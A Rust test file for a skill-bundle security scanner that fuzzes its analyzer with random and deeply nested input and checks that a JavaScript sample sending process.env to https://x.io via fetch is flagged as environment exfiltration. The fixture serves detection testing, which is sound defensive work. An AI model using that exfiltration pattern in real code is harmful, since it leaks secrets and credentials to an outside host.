//! Hostile input never panics or hangs the front-ends and engine.

use proptest::prelude::*;
use skillvet_scanner::{RuleId, tier2};
use skillvet_skill::{FileKind, SkillBundle, SkillFile};

fn bundle(path: &str, content: &str) -> SkillBundle {
    SkillBundle {
        root: String::new(),
        files: vec![SkillFile {
            path: path.into(),
            kind: FileKind::Regular,
            content: content.as_bytes().to_vec(),
        }],
    }
}

const ALPHABET: &str = "a(){}[]'\"`$\\\n #=+-./:;|&<>*@!?,fxrc0";

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn arbitrary_text_in_every_language(s in proptest::collection::vec(proptest::sample::select(ALPHABET.chars().collect::<Vec<_>>()), 0..400)) {
        let text: String = s.into_iter().collect();
        for path in ["a.py", "a.sh", "a.js"] {
            let _ = tier2::analyze_with(&bundle(path, &text), &Default::default());
        }
    }

    #[test]
    fn arbitrary_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        for path in ["a.py", "a.sh", "a.ts"] {
            let _ = tier2::analyze_with(&bundle(path, &text), &Default::default());
        }
    }
}

#[test]
fn deep_nesting_and_recursion() {
    let deep = format!("x = {}1{}\n", "(".repeat(20000), ")".repeat(20000));
    let _ = tier2::analyze_with(&bundle("a.py", &deep), &Default::default());
    let rec = "def f(x):\n    return g(x)\n\ndef g(x):\n    return f(x)\n\nf(1)\n";
    let _ = tier2::analyze_with(&bundle("a.py", rec), &Default::default());
    let sh = "f() { f \"$@\"; }\nf 1\n".to_string() + &"$(".repeat(5000);
    let _ = tier2::analyze_with(&bundle("a.sh", &sh), &Default::default());
    let js =
        "function a(cb){ cb(process.env) }\na(x => a(y => fetch('https://x.io', {body: y})))\n"
            .repeat(200);
    let r = tier2::analyze_with(&bundle("a.js", &js), &Default::default());
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == RuleId::T2ExfilEnvironment),
        "{:#?}",
        r.findings
    );
}
